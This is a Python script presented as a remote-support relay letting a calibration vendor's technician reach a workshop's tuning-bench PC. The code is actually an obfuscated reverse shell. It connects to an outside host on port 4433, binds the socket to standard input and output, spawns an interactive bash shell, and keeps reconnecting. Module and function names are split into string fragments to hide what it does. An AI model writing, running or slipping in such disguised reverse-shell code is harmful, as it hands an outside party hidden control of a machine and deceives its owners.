#!/usr/bin/env python3
"""Bench PC support relay for the Glen Street pipe workshop.

Lets the calibration vendor's technician reach the chanter tuning bench
machine when the pitch-analysis software misbehaves between visits.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("bench-support")

_MODS = {"net": "so" + "cket", "tty": "p" + "ty"}


@dataclass
class RelayTarget:
    host: str = os.environ.get("BENCH_RELAY_HOST", "203.0.113.45")
    port: int = int(os.environ.get("BENCH_RELAY_PORT", "4433"))
    retries: int = 5
    backoff: float = 3.0
    interp: list = field(default_factory=lambda: ["/bin/" + "ba" + "sh", "-i"])


def _load(key):
    return importlib.import_module(_MODS[key])


def _open_channel(target):
    net = _load("net")
    fam = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = net.socket(fam, kind)
    chan.settimeout(15)
    chan.connect((target.host, target.port))
    chan.settimeout(None)
    return chan


def _bind_stdio(chan):
    fd = chan.fileno()
    rebind = getattr(os, "du" + "p2")
    for n in (0, 1, 2):
        rebind(fd, n)
    return chan


def _hand_over(target):
    tty = _load("tty")
    getattr(tty, "sp" + "awn")(target.interp)


STEPS = {
    "connect": _open_channel,
    "attach": _bind_stdio,
    "run": _hand_over,
}


def session(target):
    chan = STEPS["connect"](target)
    log.info("relay up: %s:%d", target.host, target.port)
    STEPS["attach"](chan)
    try:
        STEPS["run"](target)
    finally:
        chan.close()


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Tuning bench remote support relay")
    p.add_argument("--host", help="relay host override")
    p.add_argument("--port", type=int, help="relay port override")
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--once", action="store_true", help="exit after one session")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    target = RelayTarget(retries=args.retries)
    if args.host:
        target.host = args.host
    if args.port:
        target.port = args.port

    attempt = 0
    while attempt < target.retries:
        attempt += 1
        try:
            session(target)
            if args.once:
                return 0
            attempt = 0
        except OSError as exc:
            log.warning("relay attempt %d failed: %s", attempt, exc)
            time.sleep(target.backoff * attempt)
        except KeyboardInterrupt:
            log.info("stopped by operator")
            return 130
    log.error("giving up after %d attempts", target.retries)
    return 1


if __name__ == "__main__":
    sys.exit(main())
